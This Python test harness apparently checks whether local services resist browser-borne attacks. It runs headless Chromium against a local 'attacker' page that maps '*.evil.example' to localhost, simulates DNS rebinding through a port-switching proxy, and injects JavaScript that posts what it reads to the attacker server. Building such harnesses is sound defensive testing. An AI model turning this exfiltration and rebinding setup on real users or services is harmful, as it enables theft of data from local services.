"""A real browser with an attacker's page in it: Chromium, headless, whose name server is the attacker's."""

import contextlib
import http.server
import json
import os
import queue
import shutil
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

NAMES = ("chromium", "chromium-browser", "google-chrome")


def find_browser() -> str | None:
    """The browser of this machine."""
    return next((path for path in map(shutil.which, NAMES) if path), None)


class Attacker:
    """A web server that serves one page at every path, and takes what the page reports.

    Args:
        page: HTML; it calls `report(document)` when it has done.
    """

    def __init__(self, page: str) -> None:
        self.reports: queue.Queue[Any] = queue.Queue()
        self.rebound = threading.Event()
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(
                    page.replace(
                        "/*SHARED*/", f"const attacker = 'http://127.0.0.1:{attacker.port}';{SHARED}"
                    )
                )

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length", 0)))
                if self.path == "/rebind":
                    attacker.rebound.set()
                if self.path == "/report":
                    attacker.reports.put(json.loads(body))
                self._answer("")

            def _answer(self, text: str) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("access-control-allow-origin", "*")
                self.send_header("connection", "close")
                self.end_headers()
                self.wfile.write(text.encode())

            def log_message(self, *_arguments: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self._server.server_address[1])
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


SHARED = """
const report = document => fetch(attacker + '/report', {method: 'POST', body: JSON.stringify(document)});
const read = async (url, options) => {
  try { const answer = await fetch(url, options); return [answer.status, await answer.text()]; }
  catch (error) { return [0, String(error)]; }
};
const settled = promise => new Promise(done => { promise.then(done, done); setTimeout(done, 5000); });
"""


@contextlib.contextmanager
def attacker(page: str) -> Iterator[Attacker]:
    found = Attacker(page)
    try:
        yield found
    finally:
        found.close()


@contextlib.contextmanager
def rebinding(first: int, then: int, moved: threading.Event) -> Iterator[int]:
    """A port of this machine that leads to one port and, once moved, to another; every byte goes through as it is."""
    listener = socket.create_server(("127.0.0.1", 0))

    def pump(source: socket.socket, target: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while chunk := source.recv(65536):
                target.sendall(chunk)
        with contextlib.suppress(OSError):
            target.shutdown(socket.SHUT_WR)

    def accept() -> None:
        with contextlib.suppress(OSError):
            while True:
                client, _ = listener.accept()
                server = socket.create_connection(("127.0.0.1", then if moved.is_set() else first))
                for ends in ((client, server), (server, client)):
                    threading.Thread(target=pump, args=ends, daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield int(listener.getsockname()[1])
    finally:
        # A thread that waits in accept holds the socket open.
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()


def visit(browser: str, url: str, profile: Path, found: Attacker) -> Any:
    """Open a page, wait for what it reports, and end the browser with all its processes."""
    process = subprocess.Popen(
        [
            browser,
            "--headless=new",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--no-proxy-server",
            # Chromium's sandbox does not run for root.
            *(["--no-sandbox"] if os.geteuid() == 0 else []),
            "--host-resolver-rules=MAP *.evil.example 127.0.0.1",
            f"--user-data-dir={profile}",
            url,
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        return found.reports.get(timeout=60)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait()
